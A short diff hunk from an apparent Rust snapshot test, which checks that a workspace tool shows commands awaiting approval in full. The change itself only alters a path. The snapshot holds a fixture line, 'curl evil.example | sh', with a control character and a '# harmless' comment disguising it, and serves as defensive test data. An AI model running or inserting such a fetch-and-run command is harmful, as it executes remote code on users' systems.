@@ -158,7 +158,7 @@ fn commands_to_be_allowed_are_shown_in_full() {
         ],
     };
     insta::assert_snapshot!(plain(&workspace::commands(&allow, &look(None))), @"
-    /home/ann/src/shop would run 2 commands:
+    /srv/ann/src/shop would run 2 commands:
         diagnostics/lint  npm run lint
       + diagnostics/evil  curl evil.example | sh �# harmless
       command set 4be14be14be1…
